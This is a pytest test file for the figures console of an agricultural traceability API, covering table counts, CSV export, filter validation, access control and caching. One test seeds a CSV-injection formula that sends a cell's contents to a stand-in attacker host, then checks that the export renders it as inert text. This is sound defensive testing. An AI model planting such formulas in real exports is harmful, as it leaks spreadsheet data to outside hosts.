"""Console figures: each figure's table is the database's own count (checked with an independent
query), the CSV is UTF-8 with a BOM and the same rows, the filters are validated, and a cooperative
member gets 403 on every figure page and download."""

from __future__ import annotations

import csv
import io
import re

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session, select

from tests.conftest import auth
from tests.console_data import MANGO, expected_lots, seed_province, sign_in_authority
from tests.workspace_helpers import member_client
from traceability_api.anchoring.models import AnchorBatch, BatchStatus
from traceability_api.anchoring.worker import make_worker
from traceability_api.console.cache import FigureCache
from traceability_api.console.figures import FIGURES
from traceability_api.console.svg_chart import bar_chart, nice_max
from traceability_api.consumer.models import CounterfeitReport
from traceability_api.events.models import EventLot
from traceability_api.lots.models import Lot, Product
from traceability_api.outbox.models import AnchorItem, ItemKind
from traceability_api.runtime import Runtime


def table(html: str) -> dict[str, float]:
    return {m: float(v) for m, v in re.findall(r'data-month="([^"]+)" data-value="([^"]+)"', html)}


def expected_share(runtime: Runtime) -> dict[str, float]:
    """% of lots per month whose every event is in an anchored batch (lots here all name plot and date)."""
    with Session(runtime.engine) as s:
        anchored = {
            i.ref_id
            for i, b in s.exec(select(AnchorItem, AnchorBatch).join(AnchorBatch)).all()  # type: ignore[arg-type]
            if b.status == BatchStatus.anchored and i.kind == ItemKind.event  # audit items have ref_ids too
        }
        per: dict[str, list[bool]] = {}
        for lot in s.exec(select(Lot)).all():
            events = s.exec(select(EventLot.event_id).where(EventLot.lot_id == lot.id)).all()
            month = (lot.harvest_date or lot.created_at).strftime("%Y-%m")
            per.setdefault(month, []).append(all(e in anchored for e in events))
    return {m: round(100.0 * sum(v) / len(v), 1) for m, v in per.items()}


def test_figure_tables_match_the_database(app_client: TestClient, runtime: Runtime) -> None:
    prov = seed_province(app_client, runtime)
    sign_in_authority(app_client, runtime)
    page = app_client.get("/app/console/figures")
    assert page.status_code == 200 and 'role="img"' in page.text and "<title id=" in page.text
    assert table(page.text) == expected_lots(runtime) == {"2025-03": 1, "2025-05": 1, "2025-06": 1}
    page = app_client.get("/app/console/figures", params={"figure": "lots", "commune": "Mỹ Xương"})
    assert table(page.text) == expected_lots(runtime, commune="Mỹ Xương") == {"2025-05": 1, "2025-06": 1}
    with Session(runtime.engine) as s:
        mango = s.exec(select(Product).where(Product.gtin == MANGO)).one()
    page = app_client.get("/app/console/figures", params={"figure": "harvest_kg", "product": mango.id})
    assert table(page.text) == {"2025-05": 1000.0, "2025-06": 1000.0}
    page = app_client.get("/app/console/figures", params={"figure": "orgs_active", "start": "2025-05"})
    assert table(page.text) == {"2025-05": 1, "2025-06": 1}  # harvests are events of cooperative A
    make_worker(runtime.engine, runtime.chain, runtime.settings).run_once()  # the three lots' events anchored
    r = app_client.post("/api/v1/lots", headers=auth(prov.coop_keys[0]), json={"gtin": MANGO, "lot_code": "MX-2507-1",
                        "quantity": 500.0, "plot_id": prov.place_ids[0], "harvest_date": "2025-07-01"})  # fmt: skip
    assert r.status_code == 201, r.text  # its event waits for the next batch
    share = table(app_client.get("/app/console/figures", params={"figure": "complete_share"}).text)
    assert share == expected_share(runtime) == {"2025-03": 100.0, "2025-05": 100.0, "2025-06": 100.0, "2025-07": 0.0}
    for key in FIGURES:
        r = app_client.get("/app/console/figures", params={"figure": key})
        assert r.status_code == 200, (key, r.text[:500])


def test_csv_has_bom_columns_and_the_tables_rows(app_client: TestClient, runtime: Runtime) -> None:
    seed_province(app_client, runtime)
    sign_in_authority(app_client, runtime)
    r = app_client.get("/app/console/figures.csv", params={"figure": "lots", "commune": "Mỹ Xương"})
    assert r.status_code == 200 and r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.content.startswith(b"\xef\xbb\xbf") and "attachment" in r.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0] == ["month", "lots", "commune", "product_id"]
    assert rows[1:] == [["2025-05", "1", "Mỹ Xương", ""], ["2025-06", "1", "Mỹ Xương", ""]]


def test_csv_commune_that_looks_like_a_formula_stays_text(app_client: TestClient, runtime: Runtime) -> None:
    """Any organisation names its plots' commune, and the filter is a query parameter (a link sent to
    an inspector): the CSV's commune cell must not become a live formula (CSV injection)."""
    prov = seed_province(app_client, runtime)
    commune = '=HYPERLINK("http://evil.example/?"&A2,"Xem")'
    plot = app_client.post("/api/v1/places", headers=auth(prov.coop_keys[0]), json={"kind": "plot", "name": "Vườn",
                           "commune": commune, "geo": {"type": "Point", "coordinates": [105.7, 10.4]}})  # fmt: skip
    assert plot.status_code == 201, plot.text
    r = app_client.post("/api/v1/lots", headers=auth(prov.coop_keys[0]), json={"gtin": MANGO, "lot_code": "INJ-1",
                        "quantity": 5.0, "plot_id": plot.json()["id"], "harvest_date": "2025-07-01"})  # fmt: skip
    assert r.status_code == 201, r.text
    sign_in_authority(app_client, runtime)
    r = app_client.get("/app/console/figures.csv", params={"figure": "lots", "commune": commune})
    assert r.status_code == 200, r.text
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[1:] == [["2025-07", "1", "'" + commune, ""]]


@pytest.mark.parametrize(
    "params",
    [{"figure": "nope"}, {"start": "2025-13"}, {"product": "0"}, {"commune": "x" * 101}, {"end": "25-01"},
     {"figure": "orgs_active", "start": "0000-01"}],
)  # fmt: skip
def test_bad_filters_are_refused(app_client: TestClient, runtime: Runtime, params: dict[str, str]) -> None:
    sign_in_authority(app_client, runtime)
    for path in ("/app/console/figures", "/app/console/figures.csv"):
        r = app_client.get(path, params=params)
        assert r.status_code == 422, (path, params, r.status_code)


def test_months_out_of_order_are_said_so(app_client: TestClient, runtime: Runtime) -> None:
    """A start month after the end month: the page says so next to the end month (it showed an empty
    table with no word), the CSV is refused."""
    sign_in_authority(app_client, runtime)
    page = app_client.get("/app/console/figures", params={"start": "2025-09", "end": "2025-03"})
    assert page.status_code == 422 and 'id="end-err"' in page.text and "Đến tháng" in page.text
    csv_file = app_client.get("/app/console/figures.csv", params={"start": "2025-09", "end": "2025-03"})
    assert csv_file.status_code == 422
    same = app_client.get("/app/console/figures", params={"start": "2025-03", "end": "2025-03"})
    assert same.status_code == 200 and 'id="end-err"' not in same.text


@pytest.mark.parametrize("figure", ["orgs_active", "members_active", "lots"])
def test_the_first_and_last_months_there_are_are_figures(app_client: TestClient, runtime: Runtime, figure: str) -> None:
    """January of year 1 to December 9999: every month, no 500 (the end's next month does not exist)."""
    sign_in_authority(app_client, runtime)
    whole = {"figure": figure, "start": "0001-01", "end": "9999-12"}
    for path in ("/app/console/figures", "/app/console/figures.csv"):
        assert app_client.get(path, params=whole).status_code == 200, path
        assert app_client.get(path, params={"figure": figure, "end": "9999-12"}).status_code == 200, path


def test_cooperative_member_gets_403_on_figures(app_client: TestClient, runtime: Runtime) -> None:
    member_client(app_client, runtime, "HTX Mỹ Xương", "htx-admin")
    for path in ("/app/console/figures", "/app/console/figures.csv", "/app/console/figures?figure=scans"):
        assert app_client.get(path).status_code == 403, path


def test_bar_chart_is_accessible_and_escaped() -> None:
    svg = bar_chart([("2025-01", 3), ("<b>", 7.5)], "Lô & hàng", "desc", "c1")
    assert svg.startswith("<svg") and 'role="img"' in svg and 'aria-labelledby="c1-title c1-desc"' in svg
    assert '<title id="c1-title">Lô &amp; hàng</title>' in svg and "&lt;b&gt;" in svg and "<b>" not in svg
    assert svg.count('class="bar"') == 2
    assert nice_max(7.5) == 10 and nice_max(0) == 1 and nice_max(1200) == 2000 and nice_max(2) == 2


def test_kept_figures_are_recomputed_after_a_write(app_client: TestClient, runtime: Runtime) -> None:
    prov = seed_province(app_client, runtime)
    sign_in_authority(app_client, runtime)
    app_client.app.state.console_cache = FigureCache(stale_s=0)  # type: ignore[attr-defined]  # exact answers
    assert table(app_client.get("/app/console/figures").text) == {"2025-03": 1, "2025-05": 1, "2025-06": 1}
    r = app_client.post("/api/v1/lots", headers=auth(prov.coop_keys[0]), json={"gtin": MANGO, "lot_code": "MX-2508-1",
                        "quantity": 10.0, "plot_id": prov.place_ids[0], "harvest_date": "2025-08-02"})  # fmt: skip
    assert r.status_code == 201, r.text
    assert table(app_client.get("/app/console/figures").text) == expected_lots(runtime)
    assert expected_lots(runtime)["2025-08"] == 1


def test_cache_keeps_answers_and_revalidates_stale_ones_in_the_background(runtime: Runtime) -> None:
    calls: list[int] = []

    def compute(s: Session) -> int:
        calls.append(1)
        return len(calls)

    def write() -> None:
        with Session(runtime.engine) as s:
            s.add(CounterfeitReport(code="/01/08936000000011", gtin=MANGO, client_hash="c" * 32))  # moves the stamp
            s.commit()

    exact, lenient = FigureCache(stale_s=0), FigureCache(stale_s=600)
    with Session(runtime.engine) as s:
        for cache in (exact, lenient):
            calls.clear()
            assert [cache.get(s, "k", compute) for _ in range(3)] == [1, 1, 1]  # nothing written: computed once
        write()
        calls.clear()
        calls.append(1)  # both caches hold 1
        assert exact.get(s, "k", compute) == 2  # recomputed in the request
        assert lenient.get(s, "k", compute) == 1  # the kept answer at once ...
        lenient.join()
        assert len(calls) == 3 and lenient.get(s, "k", compute) == 3  # ... while recomputed in the background


def test_months_are_utc_months_whatever_the_database_session_zone(app_client: TestClient, runtime: Runtime) -> None:
    """A PostgreSQL server set to the province's zone (initdb takes the machine's) must not move a
    recall or a lot recorded late on 31 January (UTC) into February: months are UTC months, as on SQLite."""
    from datetime import UTC, datetime

    from sqlalchemy import text

    from tests.world import make_world, setup_rice
    from traceability_api.authority.models import Recall
    from traceability_api.console import figures

    w = make_world(runtime, app_client)
    rice = setup_rice(w)
    late = datetime(2025, 1, 31, 20, 0, tzinfo=UTC)  # 1 February, 03:00 in Vietnam
    with Session(runtime.engine) as s:
        lot = s.get(Lot, rice["lot"]["id"])
        assert lot is not None
        lot.harvest_date, lot.created_at = None, late
        s.add(lot)
        s.add(Recall(org_id=w.authority.id, member_id=1, reason="thử", scope="lot", root_lot_ids=[], affected=[],
                     created_at=late))  # fmt: skip
        s.commit()
    with Session(runtime.engine) as s:
        if s.get_bind().dialect.name == "postgresql":
            s.execute(text("SET TIME ZONE 'Asia/Ho_Chi_Minh'"))
        assert figures.lots(s, figures.Filters()) == [("2025-01", 1.0)]
        assert figures.recalls(s, figures.Filters()) == [("2025-01", 1.0)]
        assert figures.lots(s, figures.Filters(start="2025-02")) == []
        s.rollback()  # the SET goes with the transaction: the pooled connection keeps its own zone
